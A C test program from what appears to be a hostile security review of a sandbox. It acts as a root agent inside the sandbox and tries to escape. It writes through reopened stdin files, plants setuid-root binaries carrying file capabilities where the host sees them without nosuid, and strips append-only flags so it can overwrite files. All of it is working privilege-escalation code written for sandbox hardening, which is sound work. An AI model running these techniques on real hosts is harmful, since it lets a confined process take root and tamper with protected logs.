/* ha19-stdio.c (hostile review h-attack19): what a root agent does with a
 * regular file on 0-2 that sv_rootfs_check_stdio lets through, and with
 * the files of a declared path as the host sees them.
 *   reopen FD TEXT  open /proc/self/fd/FD O_RDWR|O_TRUNC and write TEXT
 *                   (a file given for reading)
 *   suid FD         copy this program into FD, make it root's and
 *                   setuid (fchown, fchmod 04755) and give it file
 *                   capabilities (security.capability, CAP_SETFCAP kept)
 *   plant PATH      the same into a new file PATH (a declared path: nosuid
 *                   in the agent's view, not in the host's)
 *   unappend FD TEXT clear the append-only attribute (CAP_LINUX_IMMUTABLE
 *                   kept) of the file on FD, given with >>, truncate it and
 *                   write TEXT
 *   euid PATH       (run by uid 1000 on the host, outside the run) print
 *                   the effective uid and create PATH */
#include <errno.h>
#include <fcntl.h>
#include <linux/fs.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/stat.h>
#include <sys/xattr.h>
#include <unistd.h>

static void say(const char *what, int rc)
{
	fprintf(stderr, "agent: %s: %s\n", what, rc == 0 ? "ok" : strerror(errno));
}

static int copy_self(int out)
{
	char buf[65536];
	ssize_t n;
	int in = open("/proc/self/exe", O_RDONLY);

	if (in < 0)
		return -1;
	while ((n = read(in, buf, sizeof(buf))) > 0)
		if (write(out, buf, (size_t)n) != n)
			return -1;
	close(in);
	return n < 0 ? -1 : 0;
}

/* A VFS_CAP_REVISION_2 value: CAP_DAC_OVERRIDE (1) and CAP_SETUID (7)
 * permitted, effective bit set. */
static int give_caps(int fd)
{
	unsigned int v[5] = {0x02000001u, (1u << 1) | (1u << 7), 0, 0, 0};

	return fsetxattr(fd, "security.capability", v, sizeof(v), 0);
}

static int make_suid(int fd)
{
	int rc = copy_self(fd);

	say("copied itself in", rc);
	say("fchown root:root", rc = fchown(fd, 0, 0));
	say("fchmod 04755", rc = fchmod(fd, 04755));
	return rc;
}

int main(int argc, char **argv)
{
	if (argc == 4 && strcmp(argv[1], "reopen") == 0) {
		char link[64];
		int fd;

		snprintf(link, sizeof(link), "/proc/self/fd/%s", argv[2]);
		fd = open(link, O_RDWR | O_TRUNC);
		if (fd < 0) {
			fprintf(stderr, "agent: reopen %s: %s\n", link, strerror(errno));
			return 1;
		}
		say("wrote through the reopened descriptor",
		    write(fd, argv[3], strlen(argv[3])) < 0 ? -1 : 0);
		return 0;
	}
	if (argc == 3 && strcmp(argv[1], "suid") == 0) {
		int fd = atoi(argv[2]);

		/* stdout itself: a dup, so that say() still reaches stderr. */
		if (ftruncate(fd, 0) != 0 || lseek(fd, 0, SEEK_SET) < 0)
			say("ftruncate", -1);
		make_suid(fd);
		say("fsetxattr security.capability", give_caps(fd));
		return 0;
	}
	if (argc == 3 && strcmp(argv[1], "plant") == 0) {
		int fd = open(argv[2], O_WRONLY | O_CREAT | O_TRUNC, 0755);

		if (fd < 0) {
			fprintf(stderr, "agent: open %s: %s\n", argv[2], strerror(errno));
			return 1;
		}
		make_suid(fd);
		close(fd);
		return 0;
	}
	if (argc == 4 && strcmp(argv[1], "unappend") == 0) {
		int fd = atoi(argv[2]), fl = 0, rc;

		rc = ioctl(fd, FS_IOC_GETFLAGS, &fl);
		fprintf(stderr, "agent: flags %#x (append-only %s)\n", fl,
			fl & FS_APPEND_FL ? "set" : "not set");
		fl &= ~FS_APPEND_FL;
		say("FS_IOC_SETFLAGS without append-only", rc = ioctl(fd, FS_IOC_SETFLAGS, &fl));
		if (rc == 0) {
			say("fcntl: O_APPEND off", fcntl(fd, F_SETFL, 0));
			say("ftruncate", ftruncate(fd, 0));
			say("pwrite", pwrite(fd, argv[3], strlen(argv[3]), 0) < 0 ? -1 : 0);
		}
		return 0;
	}
	if (argc == 3 && strcmp(argv[1], "euid") == 0) {
		int fd;

		printf("planted: uid %d euid %d\n", (int)getuid(), (int)geteuid());
		fd = open(argv[2], O_WRONLY | O_CREAT | O_TRUNC, 0644);
		printf("planted: create %s: %s\n", argv[2], fd >= 0 ? "ok" : strerror(errno));
		return 0;
	}
	fprintf(stderr, "usage: see the comment\n");
	return 2;
}
